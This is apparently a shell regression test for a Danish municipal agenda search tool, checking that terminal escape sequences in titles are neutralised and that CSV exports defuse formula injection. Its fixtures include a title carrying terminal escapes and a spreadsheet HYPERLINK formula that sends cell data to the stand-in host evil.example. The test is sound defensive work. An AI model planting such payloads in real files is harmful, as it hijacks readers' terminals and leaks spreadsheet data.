# Output is never turned against its reader (issue 22).
# F6: a title holding terminal escapes (here from an agenda answer, which is outside
# data: OSC "retitle the window", SGR colour, and the C1 CSI U+009B) reached the
# terminal raw from search, show and --csv; every control character but TAB and line
# feed is now shown as U+FFFD.
zcat "$SHARED/data/greve-agendas/dagsorden/0ad50843-03c2-4154-80a8-ebbe6dbdeb0d.json.gz" |
	sed 's/"Boligfællesskabet Freyas Kvarter 40-42, ændring af målgruppe"/"Boligfællesskabet \\u001b]0;pwned\\u0007\\u001b[31mFreyas \\u009b1mKvarter"/g' \
		>meeting.json
"$IB" --db "$SAMPLE" import --kommune Greve meeting.json >/dev/null
id=$("$IB" --db "$SAMPLE" search Freyas --csv | sed -n 's/^\([0-9][0-9]*\);.*/\1/p')
controls() { # the control bytes (C0 but TAB/LF/CR, DEL) and C1 controls of stdin
	LC_ALL=C tr -d '\t\n\r\040-\176\200-\377' | wc -c | tr -d ' '
}
c1() { LC_ALL=C grep -c "$(printf '\302[\200-\237]')" || true; }
for cmd in "search Freyas" "search Freyas --snippets" "search Freyas --csv" "show $id" \
	"search Freyas --facets"; do
	# shellcheck disable=SC2086
	out=$("$IB" --db "$SAMPLE" $cmd)
	echo "$cmd: control bytes $(printf '%s' "$out" | controls), C1 lines $(printf '%s' "$out" | c1)"
done
"$IB" --db "$SAMPLE" show "$id" | head -1
"$IB" --db "$SAMPLE" search Freyas --csv | grep -o '"Boligfællesskabet[^"]*"'
# W3: CSV formula injection: a text cell that starts with = + - @ or TAB is written with
# a leading ' (OWASP), in search --csv, basket export --csv, /resultater.csv and
# /kurv.csv; numeric cells are numbers (a negative effect is -5000, no quote)
p='"kommunekode":"329","budget_year":2031,"source":"formler","summary":"formel"'
{
	printf '{%s,"title":"=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"klik\\")","effect_kr":-5000}\n' "$p"
	printf '{%s,"title":"+1+2","ref":"1"}\n' "$p"
	printf '{%s,"title":"-3 procent","ref":"2"}\n' "$p"
	printf '{%s,"title":"@SUM(A1:A9)","ref":"3"}\n' "$p"
	printf '{%s,"title":"\\tcmd","ref":"4"}\n' "$p"
	printf '{%s,"title":"Almindelig titel - med bindestreg","ref":"5"}\n' "$p"
} >formler.jsonl
"$IB" --db "$SAMPLE" import formler.jsonl
echo "--- search --csv"
"$IB" --db "$SAMPLE" search formel --csv | tr -d '\r' | cut -d';' -f6,10 | sort
ids=$("$IB" --db "$SAMPLE" search formel --csv | sed -n 's/^\([0-9][0-9]*\);.*/\1/p' | sort -n | tr '\n' ' ')
# shellcheck disable=SC2086
"$IB" --db "$SAMPLE" basket add $ids >/dev/null
echo "--- basket export --csv"
"$IB" --db "$SAMPLE" basket export --csv | tr -d '\r' | cut -d';' -f6,10 | sort
echo "--- /resultater.csv"
"$IB" --db "$SAMPLE" serve --render "/resultater.csv?q=formel" | tr -d '\r' | cut -d';' -f6,10 | sort
echo "--- /kurv.csv"
"$IB" --db "$SAMPLE" serve --render "/kurv.csv?kurv=$(echo $ids | tr ' ' ',')" | tr -d '\r' | cut -d';' -f6,10 | sort
